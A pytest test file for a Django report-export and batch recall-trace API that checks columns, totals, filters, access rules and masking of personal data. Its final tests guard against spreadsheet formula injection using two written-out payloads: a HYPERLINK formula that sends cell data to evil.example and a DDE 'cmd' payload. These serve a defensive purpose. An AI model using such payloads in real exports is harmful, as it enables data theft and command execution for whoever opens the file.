"""api/reports.py: GET /api/v1/reports/{key}/ and batches/{id}/recall-trace/."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.db.models import Sum
from django.utils.http import content_disposition_header

from reports.forms import SEED_FORMS
from trace.models import Sale
from trace.services.batches import batch_hold

pytestmark = pytest.mark.django_db

URL = "/api/v1/reports/{}/"


def read_csv(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def read_xlsx(response) -> list[tuple]:
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    return list(workbook.active.iter_rows(values_only=True))


def split(rows: list, spec) -> tuple[list, list]:
    """Return (columns row, data rows) after the title and header-fields rows."""
    start = 2 if spec.header_fields else 1
    return list(rows[start]), rows[start + 1 :]


@pytest.mark.parametrize("spec", SEED_FORMS, ids=lambda spec: spec.key)
def test_json_csv_and_xlsx_have_the_seed_columns(sales, client_for, seed_forms, spec):
    client = client_for(sales.world.admin)
    body = client.get(URL.format(spec.key)).json()
    assert body["columns"] == seed_forms[spec.key]["columns"]
    assert set(body) >= {"title", "columns", "rows"}

    response = client.get(URL.format(spec.key), {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = read_csv(response)
    assert rows[0] == [body["title"]]
    assert response["Content-Disposition"] == content_disposition_header(
        True, f"{body['title']}.csv"
    )
    if spec.header_fields:
        assert [cell.split("：")[0] for cell in rows[1]] == seed_forms[spec.key][
            "header_fields"
        ]
    columns, data = split(rows, spec)
    assert columns == seed_forms[spec.key]["columns"]
    assert len(data) == len(body["rows"])

    response = client.get(URL.format(spec.key), {"format": "xlsx"})
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    header_row = 3 if spec.header_fields else 2
    assert all(cell.font.bold for cell in sheet[header_row])
    columns, data = split(read_xlsx(response), spec)
    assert columns == seed_forms[spec.key]["columns"]
    assert len(data) == len(body["rows"])


def test_xlsx_totals_equal_the_database(sales, client_for):
    client = client_for(sales.world.admin)
    database_total = Sale.objects.aggregate(total=Sum("amount"))["total"]
    response = client.get(URL.format("sales_evidence"), {"format": "xlsx"})
    _, data = split(read_xlsx(response), SEED_FORMS[1])
    assert sum(Decimal(str(row[5])) for row in data) == database_total
    response = client.get(URL.format("township_sales"), {"format": "xlsx"})
    _, data = split(read_xlsx(response), SEED_FORMS[3])
    assert sum(Decimal(str(row[7])) for row in data) == database_total
    # The whole year: by default the table counts September only.
    response = client.get(
        URL.format("campaign_statistics"),
        {"format": "xlsx", "from": "2026-01-01", "to": "2026-12-31"},
    )
    _, data = split(read_xlsx(response), SEED_FORMS[5])
    assert data[0][1] == "合计"
    assert Decimal(str(data[0][8])) == (database_total / 10000).quantize(
        Decimal("0.01")
    )


def test_csv_totals_equal_the_database(sales, client_for):
    response = client_for(sales.world.admin).get(
        URL.format("sales_evidence"), {"format": "csv"}
    )
    _, data = split(read_csv(response), SEED_FORMS[1])
    assert sum(Decimal(row[5]) for row in data) == Decimal("2345.50")


def test_region_and_period_filters(sales, client_for):
    client = client_for(sales.world.admin)
    rows = client.get(
        URL.format("sales_evidence"), {"region": sales.world.dongkou.pk}
    ).json()["rows"]
    assert {row[3] for row in rows} == {"洞口县人民政府机关食堂", "张女士"}
    rows = client.get(
        URL.format("sales_evidence"), {"from": "2026-10-01", "to": "2026-10-31"}
    ).json()["rows"]
    assert {row[5] for row in rows} == {"345.50", "800.00"}
    rows = client.get(
        URL.format("sales_evidence"),
        {"region": sales.world.hunan.pk, "to": "2026-09-30"},
    ).json()["rows"]
    assert [row[5] for row in rows] == ["1200.00"]


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "2026-13-01"}, "from"),
        ({"to": "yesterday"}, "to"),
        ({"from": "2026-10-01", "to": "2026-09-01"}, "to"),
        ({"region": "999999"}, "region"),
        ({"region": "abc"}, "region"),
        ({"year": "twenty"}, "year"),
    ],
)
def test_bad_filters_are_400_with_the_field(world, client_for, params, field):
    response = client_for(world.admin).get(URL.format("sales_evidence"), params)
    assert response.status_code == 400
    assert field in response.json()
    response = client_for(world.admin).get(
        URL.format("sales_evidence"), {**params, "format": "csv"}
    )
    assert response.status_code == 400
    assert field in response.json()


def test_unknown_key_is_404(world, client_for):
    assert client_for(world.admin).get(URL.format("no-such-form")).status_code == 404


def test_anonymous_gets_no_report(world, client_for):
    assert client_for(None).get(URL.format("sales_evidence")).status_code in (401, 403)


def test_only_administrators_get_the_roster_and_only_there_is_an_id_number_whole(
    sales, client_for
):
    world = sales.world
    id_numbers = [world.household_a.id_number(), world.household_b.id_number()]
    for user in (world.operator_a, world.operator_b, world.inspector):
        for fmt in ("json", "csv", "xlsx"):
            assert (
                client_for(user)
                .get(URL.format("beneficiary_roster"), {"format": fmt})
                .status_code
                == 404
            )
    response = client_for(world.admin).get(
        URL.format("beneficiary_roster"), {"format": "csv"}
    )
    _, data = split(read_csv(response), SEED_FORMS[0])
    assert sorted(row[1] for row in data) == sorted(id_numbers)
    for user in (world.admin, world.operator_a, world.inspector):
        client = client_for(user)
        for spec in SEED_FORMS[1:]:
            for fmt in ("json", "csv"):
                content = client.get(
                    URL.format(spec.key), {"format": fmt}
                ).content.decode("utf-8")
                assert not any(number in content for number in id_numbers)
        content = client.get(
            f"/api/v1/batches/{world.batch_a.pk}/recall-trace/"
        ).content.decode()
        assert not any(number in content for number in id_numbers)


def test_non_administrators_see_masked_names_only(sales, client_for):
    for user in (sales.world.operator_a, sales.world.inspector):
        content = client_for(user).get(URL.format("township_sales")).content.decode()
        assert "王小明" not in content and "王*明" in content
        assert "李春花" not in content and "李*" not in content  # out of scope


def test_operators_get_their_producers_rows_only(sales, client_for):
    rows = (
        client_for(sales.world.operator_b)
        .get(URL.format("sales_evidence"))
        .json()["rows"]
    )
    assert [row[3] for row in rows] == ["邵东市第一中学"]


def test_outlet_rewards_endpoint(sales, client_for):
    body = (
        client_for(sales.world.admin)
        .get(URL.format("outlet-rewards"), {"year": "2026"})
        .json()
    )
    assert body["rows"][0][5:] == [
        "345.50",
        "0.00",
        "100.0%",
        "否",
        "是",
        "0.00",
        "授权中",
    ]
    assert (
        client_for(sales.world.inspector).get(URL.format("outlet-rewards")).status_code
        == 200
    )
    assert (
        client_for(sales.world.operator_a).get(URL.format("outlet-rewards")).status_code
        == 404
    )


RECALL = "/api/v1/batches/{}/recall-trace/"


def test_recall_trace_json(sales, client_for):
    world = sales.world
    batch_hold(batch=world.batch_a, changed_by=world.inspector, reason="抽检不合格")
    body = client_for(world.operator_a).get(RECALL.format(world.batch_a.pk)).json()
    assert body["batch"]["lot_code"] == "GL2026A"
    assert {sale["id"] for sale in body["sales"]} == set(
        world.batch_a.sales.values_list("id", flat=True)
    )
    assert {sale["buyer"] for sale in body["sales"]} == {
        "洞口县人民政府机关食堂",
        "张女士",
    }
    assert [change["to_status"] for change in body["status_changes"]] == ["on_hold"]
    assert body["batch"]["status"] == "on_hold"
    assert "邵东市第一中学" not in str(body) and "LQ2026A" not in str(body)


def test_recall_trace_xlsx(sales, client_for):
    world = sales.world
    response = client_for(world.admin).get(
        RECALL.format(world.batch_a.pk), {"format": "xlsx"}
    )
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames[:4] == ["批次", "状态变更", "追溯事件", "销售"]
    sale_rows = list(workbook["销售"].iter_rows(min_row=3, values_only=True))
    assert {row[2] for row in sale_rows} == {"洞口县人民政府机关食堂", "张女士"}
    assert len(list(workbook["追溯事件"].iter_rows(min_row=3, values_only=True))) == 2


def test_recall_trace_out_of_scope_is_404(sales, client_for):
    world = sales.world
    assert (
        client_for(world.operator_a).get(RECALL.format(world.batch_b.pk)).status_code
        == 404
    )
    assert (
        client_for(world.inspector).get(RECALL.format(world.batch_b.pk)).status_code
        == 404
    )
    assert (
        client_for(world.operator_a)
        .get(RECALL.format(world.batch_b.pk), {"format": "xlsx"})
        .status_code
        == 404
    )
    assert client_for(world.admin).get(RECALL.format(999999)).status_code == 404


def test_schema_lists_the_report_endpoints(world, client_for):
    response = client_for(None).get("/api/schema/", {"format": "json"})
    assert response.status_code == 200
    paths = response.json()["paths"]
    assert "/api/v1/reports/{key}/" in paths
    assert (
        "/api/v1/batches/{id}/recall-trace/" in paths
        or "/api/v1/batches/{pk}/recall-trace/" in paths
    )


@pytest.mark.parametrize(
    "key",
    ["sales_evidence", "township_sales", "products_for_sale", "campaign_statistics"],
)
def test_query_count_does_not_grow_with_rows(
    sales, client_for, django_assert_max_num_queries, key
):
    from tests.factories import BatchFactory
    from tests.reports.factories import ContributionFactory, SaleFactory

    client = client_for(sales.world.admin)
    client.get(URL.format(key))  # warm the user's role cache path
    with django_assert_max_num_queries(14) as few:
        client.get(URL.format(key))
    for _ in range(5):
        batch = BatchFactory(
            producer=sales.world.producer_a, origin=sales.world.gulou_village
        )
        ContributionFactory(batch=batch, household=sales.world.household_a)
        SaleFactory(batch=batch)
    with django_assert_max_num_queries(len(few.captured_queries)):
        client.get(URL.format(key))


# Issue 34: nothing executable in what offices open (OWASP CSV injection).
FORMULA_BUYER = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.mark.parametrize("spec", SEED_FORMS, ids=lambda spec: spec.key)
def test_no_export_carries_a_live_formula(sales, client_for, spec):
    Sale.objects.filter(buyer="洞口县人民政府机关食堂").update(buyer=FORMULA_BUYER)
    client = client_for(sales.world.admin)
    body = client.get(URL.format(spec.key)).json()
    shows_buyer = any(FORMULA_BUYER in map(str, row) for row in body["rows"])

    for row in read_csv(client.get(URL.format(spec.key), {"format": "csv"})):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        if shows_buyer and "'" + FORMULA_BUYER in row:
            shows_buyer = "csv"
    assert shows_buyer in (False, "csv")  # the buyer arrives, as text

    response = client.get(URL.format(spec.key), {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    for cell in cells:
        if cell.value == FORMULA_BUYER:
            assert cell.data_type == "s" and cell.quotePrefix


def test_recall_trace_xlsx_carries_no_live_formula(sales, client_for):
    Sale.objects.filter(buyer="张女士").update(buyer="@SUM(1+1)*cmd|' /C calc'!A0")
    response = client_for(sales.world.admin).get(
        RECALL.format(sales.world.batch_a.pk), {"format": "xlsx"}
    )
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    buyers = {
        cell.value: cell
        for cell in workbook["销售"]["C"]
        if isinstance(cell.value, str) and cell.value.startswith("@")
    }
    cell = buyers["@SUM(1+1)*cmd|' /C calc'!A0"]
    assert cell.data_type == "s" and cell.quotePrefix
    for sheet in workbook.worksheets:
        assert not [
            c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"
        ]


def test_recall_trace_xlsx_of_a_buyer_stored_with_a_control_character(
    sales, client_for
):
    """Issue 34: a 仓\\x1c库 stored before the input policy broke the export."""
    Sale.objects.filter(buyer="张女士").update(buyer="仓\x1c库")  # a legacy row
    response = client_for(sales.world.admin).get(
        RECALL.format(sales.world.batch_a.pk), {"format": "xlsx"}
    )
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert "仓\ufffd库" in [cell.value for cell in workbook["销售"]["C"]]
    assert Sale.objects.filter(buyer="仓\x1c库").exists()  # the record keeps it
